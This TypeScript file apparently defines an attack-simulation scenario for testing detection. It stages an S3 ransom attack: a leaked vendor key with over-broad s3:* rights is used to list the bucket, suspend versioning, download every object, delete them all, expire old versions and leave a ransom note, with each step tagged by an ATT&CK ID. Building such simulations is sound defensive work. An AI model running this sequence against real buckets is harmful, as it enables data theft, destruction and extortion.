import { bucketIn, elsewhere } from "../places.ts";
import { allow, ensureBucket, ensureUser, fillBucket, removeBucket, renewKey } from "../set-up.ts";
import { defineStory, matter } from "../story.ts";

const keys = Array.from({ length: 24 }, (_, index) => `exports/2026/11/${String(index + 1).padStart(2, "0")}.csv`);

const note = `Your files are with us.\nWrite to example@example.invalid within 72 hours.\n`;

/** Everything in a bucket is fetched, deleted, and paid for. */
export const emptiedBucket = defineStory({
  name: "emptied-bucket",
  title: "A bucket is copied, emptied and held to ransom",
  summary:
    "The upload key of a vendor lists the exports of Example Data from 192.0.2.203, suspends versioning, fetches every object, deletes them all, lets what remains expire within a day and leaves a note",
  actors: [
    { name: "vendor-upload", does: "may do everything in one bucket, which is too much" },
    { name: "extortionist", does: "bought the key" },
  ],
  matters: {
    list: matter("s3", "ListObjects", "T1619", "The bucket's content is listed from an unknown address"),
    suspend: matter(
      "s3",
      "PutBucketVersioning",
      "T1490",
      "Versioning is suspended, so that nothing can be brought back",
    ),
    fetch: matter("s3", "GetObject", "T1530", "An object is taken away"),
    empty: matter("s3", "DeleteObjects", "T1485", "All objects are deleted"),
    expire: matter("s3", "PutBucketLifecycle", "T1485.001", "Old versions are to expire within a day"),
    ransom: matter("s3", "PutObject", "T1486", "A note demands money"),
  },
  async setUp(stage) {
    const by = stage.administrator("data");
    const bucket = bucketIn(stage, "data", "exports");
    await removeBucket(by, bucket);
    await ensureBucket(by, bucket);
    await by.call("s3", "PutBucketVersioning", { Bucket: bucket, VersioningConfiguration: { Status: "Enabled" } });
    await fillBucket(by, bucket, keys);
    await ensureUser(by, {
      name: "vendor-upload",
      statements: [allow("s3:*", [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`])],
    });
  },
  async play(stage, matters) {
    const { random, accounts, company } = stage;
    const Bucket = bucketIn(stage, "data", "exports");
    const credentials = await renewKey(stage.administrator("data"), "vendor-upload");
    const base = { accountId: accounts.data, region: company.homeRegion, credentials };
    const vendor = stage.actor({ ...base, name: "vendor-upload", tool: "java", sourceIp: "198.51.100.88" });
    await vendor.call("s3", "PutObject", { Bucket, Key: "uploads/prices.csv", Body: "sku,price\n" });
    await stage.pause(60 + random.int(120));

    const thief = stage.actor({ ...base, name: "extortionist", tool: "boto", sourceIp: elsewhere.resale });
    await thief.call("sts", "GetCallerIdentity", {});
    stage.mark(matters.list);
    const listed = await thief.call("s3", "ListObjectsV2", { Bucket });
    const found = (listed.Contents ?? []).flatMap(({ Key }) => (Key === undefined ? [] : [Key]));
    await thief.call("s3", "GetBucketVersioning", { Bucket });
    stage.mark(matters.suspend);
    await thief.call("s3", "PutBucketVersioning", { Bucket, VersioningConfiguration: { Status: "Suspended" } });
    await stage.pause(1);
    for (const Key of found) {
      stage.mark(matters.fetch);
      await thief.call("s3", "GetObject", { Bucket, Key });
      await stage.pause(0.05 + random.fraction() / 10);
    }
    await stage.pause(3 + random.int(5));
    stage.mark(matters.empty);
    await thief.call("s3", "DeleteObjects", {
      Bucket,
      Delete: { Objects: found.map((Key) => ({ Key })), Quiet: true },
    });
    stage.mark(matters.expire);
    await thief.call("s3", "PutBucketLifecycleConfiguration", {
      Bucket,
      LifecycleConfiguration: {
        Rules: [
          { ID: "gone", Status: "Enabled", Filter: { Prefix: "" }, NoncurrentVersionExpiration: { NoncurrentDays: 1 } },
        ],
      },
    });
    stage.mark(matters.ransom);
    await thief.call("s3", "PutObject", { Bucket, Key: "HOW_TO_GET_YOUR_FILES_BACK.txt", Body: note });
  },
});
